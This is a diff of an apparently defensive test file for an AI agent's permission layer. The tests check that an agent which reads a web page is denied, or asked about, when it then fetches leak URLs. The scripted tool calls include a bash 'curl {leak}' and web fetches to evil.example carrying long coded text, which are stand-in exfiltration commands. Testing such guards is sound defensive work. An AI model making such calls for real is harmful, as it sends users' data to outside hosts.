@@ -56,9 +56,7 @@ async def test_q34_the_flag_passes_to_children_and_back_and_over_resuming(stage:
     curl = {"calls": [{"name": "bash", "arguments": {"command": f"curl {leak}"}}]}
     hand = {"calls": [{"name": "delegate_task", "arguments": {"profile": "reader", "task": "read the page"}}]}
     stage.plays({"a": [hand, fetch(leak), curl, {"text": "done"}], "a.1": [fetch(page), fetch(leak), {"text": "read"}]})
-    async with stage.session(allow=RULES) as session:
-        await session.prompt("Look at the page")
-        name = session.id
+    name = (await stage.ran(allow=RULES)).id
     child, root = await stage.results(name, "a.1"), await stage.results(name, "a")
     assert [status for status, _ in child][:2] == ["ok", "denied"]
     assert [status for status, _ in root] == ["ok", "denied", "denied"]
@@ -71,17 +69,13 @@ async def test_q34_the_flag_passes_to_children_and_back_and_over_resuming(stage:
 
 async def test_q34_a_rule_for_the_host_lets_it_pass(stage: Stage, page: str) -> None:
     stage.plays({"a": [fetch(page), fetch("http://evil.example/x"), {"text": "done"}]})
-    async with stage.session(allow=("web_fetch(domain:127.0.0.1)", "web_fetch(domain:evil.example)")) as session:
-        await session.prompt("Look at the page")
-        name = session.id
+    name = (await stage.ran(allow=("web_fetch(domain:127.0.0.1)", "web_fetch(domain:evil.example)"))).id
     assert "Not permitted" not in (await stage.results(name, "a"))[1][1]
 
 
 async def test_who_is_asked_anyway_is_told_that_an_address_carries_data(stage: Stage) -> None:
     stage.plays({"a": [fetch("http://evil.example/" + "zB3" * 20), {"text": "done"}]})
-    async with stage.session() as session:
-        await session.prompt("Look at the page")
-        name = session.id
+    name = (await stage.ran()).id
     (_, text), *_ = await stage.results(name, "a")
     assert "mode ask" in text
     assert "goes to evil.example, which you did not name, and it holds long coded text" in text
